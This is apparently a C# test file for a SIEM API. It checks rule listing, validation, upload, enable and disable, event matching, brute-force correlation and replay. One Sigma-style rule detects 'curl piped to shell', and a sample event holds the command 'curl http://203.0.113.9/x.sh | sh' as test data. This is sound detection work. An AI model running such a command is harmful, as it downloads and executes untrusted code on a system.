using System.Net;
using System.Net.Http.Json;
using System.Text.Json;
using Siem.Api.Auth;

namespace Siem.Api.Tests;

public sealed class RuleEndpointTests
{
    internal const string CurlRule = """
        title: Curl Piped To Shell
        id: 0c6fd1b4-5a3e-4e84-9d56-5e2b1a7c0d11
        status: experimental
        level: high
        logsource:
          product: linux
          service: auditd
        detection:
          selection:
            process.command_line|contains: 'curl '
          condition: selection
        """;

    [Fact]
    public async Task The_list_holds_the_pack_rules_enabled_and_marked_read_only()
    {
        await using var host = await ApiTestHost.StartAsync(seed: false);

        var body = await host.As(ApiRoles.Analyst).GetFromJsonAsync<JsonElement>("/api/rules");

        var rules = body.GetProperty("rules").EnumerateArray().ToList();
        Assert.Equal(15, rules.Count);
        Assert.All(rules, r =>
        {
            Assert.Equal("pack", r.GetProperty("source").GetString());
            Assert.True(r.GetProperty("enabled").GetBoolean());
        });
        Assert.Equal(4, rules.Count(r => r.GetProperty("kind").GetString() == "correlation"));
        Assert.Empty(body.GetProperty("problems").EnumerateArray());
    }

    [Fact]
    public async Task Validation_reports_the_line_and_column_of_a_broken_rule()
    {
        await using var host = await ApiTestHost.StartAsync(seed: false);
        const string broken = "title: Broken\nid: 11111111-2222-3333-4444-555555555555\nlogsource:\n  product: linux\ndetection:\n  selection:\n    a: b\n  condition: selection and nothing\n";

        var body = await (await host.As(ApiRoles.Analyst).PostAsJsonAsync("/api/rules/validate", new { yaml = broken })).Content.ReadFromJsonAsync<JsonElement>();

        Assert.False(body.GetProperty("valid").GetBoolean());
        var error = body.GetProperty("errors").EnumerateArray().Single();
        Assert.Equal("11111111-2222-3333-4444-555555555555", error.GetProperty("rule_id").GetString());
        Assert.Contains("nothing", error.GetProperty("message").GetString(), StringComparison.Ordinal);
        Assert.True(error.GetProperty("line").GetInt32() > 0);
    }

    [Fact]
    public async Task An_uploaded_rule_is_stored_listed_updated_and_audited_and_an_invalid_one_gets_422()
    {
        await using var host = await ApiTestHost.StartAsync(seed: false);
        var analyst = host.As(ApiRoles.Analyst);

        using var created = await analyst.PostAsJsonAsync("/api/rules", new { yaml = CurlRule });
        using var again = await analyst.PostAsJsonAsync("/api/rules", new { yaml = CurlRule });
        using var updated = await analyst.PutAsJsonAsync("/api/rules/0c6fd1b4-5a3e-4e84-9d56-5e2b1a7c0d11", new { yaml = CurlRule.Replace("level: high", "level: critical", StringComparison.Ordinal) });
        using var invalid = await analyst.PostAsJsonAsync("/api/rules", new { yaml = "title: x\n" });
        using var packClash = await analyst.PostAsJsonAsync("/api/rules", new { yaml = CurlRule.Replace("0c6fd1b4-5a3e-4e84-9d56-5e2b1a7c0d11", "81e7a567-a87a-4a69-8c3a-cd004cd81081", StringComparison.Ordinal) });

        Assert.Equal(HttpStatusCode.Created, created.StatusCode);
        Assert.Equal(HttpStatusCode.Conflict, again.StatusCode);
        Assert.Equal(HttpStatusCode.OK, updated.StatusCode);
        Assert.Equal(HttpStatusCode.UnprocessableEntity, invalid.StatusCode);
        Assert.Equal(HttpStatusCode.Conflict, packClash.StatusCode);
        var rule = await analyst.GetFromJsonAsync<JsonElement>("/api/rules/0c6fd1b4-5a3e-4e84-9d56-5e2b1a7c0d11");
        Assert.Equal("custom", rule.GetProperty("rule").GetProperty("source").GetString());
        Assert.Equal("critical", rule.GetProperty("rule").GetProperty("level").GetString());
        Assert.Contains("level: critical", rule.GetProperty("yaml").GetString(), StringComparison.Ordinal);
        var audit = (await host.Audit.ReadAllAsync()).Select(e => (e.Action, e.Target, e.Details["status"])).ToList();
        Assert.Equal([
            ("rule.upload", "0c6fd1b4-5a3e-4e84-9d56-5e2b1a7c0d11", "201"),
            ("rule.upload", "", "409"),
            ("rule.update", "0c6fd1b4-5a3e-4e84-9d56-5e2b1a7c0d11", "200"),
            ("rule.upload", "", "422"),
            ("rule.upload", "", "409"),
        ], audit);
    }

    [Fact]
    public async Task A_disabled_rule_is_left_out_of_the_enabled_set_until_it_is_enabled_again()
    {
        await using var host = await ApiTestHost.StartAsync(seed: false);
        var analyst = host.As(ApiRoles.Analyst);
        int changes = 0;
        host.Rules.Changed += () => changes++;

        using var disable = await analyst.PostAsync("/api/rules/81e7a567-a87a-4a69-8c3a-cd004cd81081/disable", null);
        bool enabledWhileOff = host.Rules.EnabledRuleSet().Correlations.OfType<Siem.Rules.Correlation.CorrelationRule>().Any(c => c.Key == "81e7a567-a87a-4a69-8c3a-cd004cd81081");
        var listed = await analyst.GetFromJsonAsync<JsonElement>("/api/rules");
        using var enable = await analyst.PostAsync("/api/rules/81e7a567-a87a-4a69-8c3a-cd004cd81081/enable", null);
        using var unknown = await analyst.PostAsync("/api/rules/no-such-rule/disable", null);

        Assert.Equal(HttpStatusCode.OK, disable.StatusCode);
        Assert.False(enabledWhileOff);
        Assert.False(listed.GetProperty("rules").EnumerateArray().Single(r => r.GetProperty("id").GetString() == "81e7a567-a87a-4a69-8c3a-cd004cd81081").GetProperty("enabled").GetBoolean());
        Assert.Equal(HttpStatusCode.OK, enable.StatusCode);
        Assert.Contains(host.Rules.EnabledRuleSet().Correlations.OfType<Siem.Rules.Correlation.CorrelationRule>(), c => c.Key == "81e7a567-a87a-4a69-8c3a-cd004cd81081");
        Assert.Equal(HttpStatusCode.NotFound, unknown.StatusCode);
        Assert.Equal(2, changes);
    }

    [Fact]
    public async Task Testing_pasted_yaml_against_pasted_events_names_the_events_that_match()
    {
        await using var host = await ApiTestHost.StartAsync(seed: false);
        string events = string.Join('\n',
            """{"@timestamp":"2026-11-22T01:00:00Z","process.command_line":"curl http://203.0.113.9/x.sh | sh","host.name":"web01"}""",
            """{"@timestamp":"2026-11-22T01:00:01Z","process.command_line":"ls -la","host.name":"web01"}""",
            "",
            "this line is not an event {");

        var body = await (await host.As(ApiRoles.Analyst).PostAsJsonAsync("/api/rules/test", new { yaml = CurlRule, events })).Content.ReadFromJsonAsync<JsonElement>();

        var matches = body.GetProperty("matches").EnumerateArray().ToList();
        var match = Assert.Single(matches);
        Assert.Equal(1, match.GetProperty("event").GetInt32());
        Assert.Equal("0c6fd1b4-5a3e-4e84-9d56-5e2b1a7c0d11", match.GetProperty("rules")[0].GetProperty("id").GetString());
        Assert.Equal("Curl Piped To Shell", match.GetProperty("rules")[0].GetProperty("title").GetString());
        Assert.Equal(3, body.GetProperty("events_read").GetInt32());
    }

    [Fact]
    public async Task Testing_the_stored_correlation_over_raw_auth_log_lines_fires_the_brute_force_alert()
    {
        await using var host = await ApiTestHost.StartAsync(seed: false);
        var lines = File.ReadAllLines(RepoPaths.AuthLog).Where(l => l.Contains("203.0.113.45", StringComparison.Ordinal));

        var body = await (await host.As(ApiRoles.Analyst).PostAsJsonAsync("/api/rules/test",
            new { events = string.Join('\n', lines), rule_ids = new[] { "81e7a567-a87a-4a69-8c3a-cd004cd81081" } })).Content.ReadFromJsonAsync<JsonElement>();

        // 30 failures, ten or more in each of three 5-minute windows (the engine folds them into one alert; a test shows each).
        var correlations = body.GetProperty("correlations").EnumerateArray().ToList();
        Assert.Equal(3, correlations.Count);
        Assert.All(correlations, c =>
        {
            Assert.Equal("81e7a567-a87a-4a69-8c3a-cd004cd81081", c.GetProperty("rule_id").GetString());
            Assert.Equal("203.0.113.45", c.GetProperty("group_by").GetProperty("source.ip").GetString());
        });
        Assert.Equal(30, correlations.Sum(c => c.GetProperty("count").GetInt64()));
        Assert.Equal(60, body.GetProperty("events_read").GetInt32());
        Assert.Empty(body.GetProperty("problems").EnumerateArray());
    }

    [Fact]
    public async Task Replay_over_a_time_range_records_backfill_alerts_and_is_audited()
    {
        await using var host = await ApiTestHost.StartAsync();
        var analyst = host.As(ApiRoles.Analyst);
        await analyst.PostAsJsonAsync("/api/rules", new { yaml = CurlRule.Replace("curl ", "useradd", StringComparison.Ordinal) });

        using var response = await analyst.PostAsJsonAsync("/api/rules/replay", new
        {
            from = "2026-11-22T00:00:00Z",
            to = "2026-11-22T06:00:00Z",
            rule_ids = new[] { "0c6fd1b4-5a3e-4e84-9d56-5e2b1a7c0d11" },
        });
        using var missing = await analyst.PostAsJsonAsync("/api/rules/replay", new { from = "-1h" });

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var body = await response.Content.ReadFromJsonAsync<JsonElement>();
        Assert.Equal(1, body.GetProperty("alerts").GetInt32());
        Assert.Equal(1, body.GetProperty("alerts_by_rule").GetProperty("0c6fd1b4-5a3e-4e84-9d56-5e2b1a7c0d11").GetInt32());
        Assert.Equal(HttpStatusCode.BadRequest, missing.StatusCode);
        var audit = (await host.Audit.ReadAllAsync()).Last(e => e.Action == "rule.replay" && e.Details["status"] == "200");
        Assert.Equal("from=2026-11-22T00:00:00Z to=2026-11-22T06:00:00Z rules=0c6fd1b4-5a3e-4e84-9d56-5e2b1a7c0d11", audit.Details["detail"]);
    }
}
